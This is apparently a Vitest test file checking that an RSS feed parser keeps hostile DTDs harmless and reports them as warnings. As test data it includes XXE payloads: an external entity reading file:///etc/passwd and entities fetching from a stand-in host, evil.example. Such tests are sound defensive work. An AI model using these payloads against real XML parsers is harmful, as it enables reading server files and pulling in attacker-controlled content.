import { describe, expect, it } from 'vitest';
import { parseFeed } from '../../../src/parse/index.js';

const rss = (prolog: string, title = 't') => Buffer.from(`<?xml version="1.0"?>\n${prolog}\n<rss version="2.0"><channel><title>${title}</title><item><title>a</title></item></channel></rss>`);

/**
 * Decided: a document whose DTD is hostile is kept (its items are real), nothing the DTD names is ever fetched
 * or expanded, and `warnings` says what it tried. See README, "parse".
 */
describe('hostile DTDs are kept harmless and reported', () => {
  it('says so of a SYSTEM external entity, which is never fetched, and leaves its reference undefined', () => {
    const parsed = parseFeed({ body: rss('<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>', 't &xxe;') });
    expect(parsed.title?.value).toBe('t &xxe;');
    expect(parsed.entries).toHaveLength(1);
    expect(parsed.warnings).toContain('DTD declares external entity &xxe; (SYSTEM "file:///etc/passwd"): never fetched; references to it stay undefined');
  });

  it('says so of a PUBLIC external entity', () => {
    const parsed = parseFeed({ body: rss('<!DOCTYPE rss [ <!ENTITY pub PUBLIC "-//x//y" "http://evil.example/e"> ]>') });
    expect(parsed.warnings).toContain('DTD declares external entity &pub; (PUBLIC "-//x//y" "http://evil.example/e"): never fetched; references to it stay undefined');
  });

  it('says so of parameter entities and their references, which are never expanded', () => {
    const parsed = parseFeed({ body: rss('<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>') });
    expect(parsed.warnings).toEqual([
      'DTD declares parameter entity %remote;: ignored (parameter entities are never expanded)',
      'DTD references parameter entity %remote;: ignored',
    ]);
  });

  it('says so of a second DOCTYPE, and still reads the feed', () => {
    const parsed = parseFeed({ body: rss('<!DOCTYPE rss>\n<!DOCTYPE rss [ <!ENTITY x "y"> ]>') });
    expect(parsed.entries).toHaveLength(1);
    expect(parsed.warnings).toEqual(['a second DOCTYPE declaration (line 3): ignored']);
  });

  it('stays quiet about an ordinary external DTD (Netscape RSS 0.91) and internal entities', () => {
    const netscape = rss('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">');
    expect(parseFeed({ body: netscape }).warnings).toEqual([]);
    const internal = parseFeed({ body: rss('<!DOCTYPE rss [ <!ENTITY name "Example"> ]>', '&name;') });
    expect(internal.title?.value).toBe('Example');
    expect(internal.warnings).toEqual([]);
    // XHTML's Latin-1 entity set through a parameter entity is the usual way to declare &eacute; and friends.
    const latin1 = rss('<!DOCTYPE rss [ <!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1; ]>', 'caf&eacute;');
    const parsed = parseFeed({ body: latin1 });
    expect(parsed.title?.value).toBe('café');
    expect(parsed.warnings).toEqual([]);
  });
});
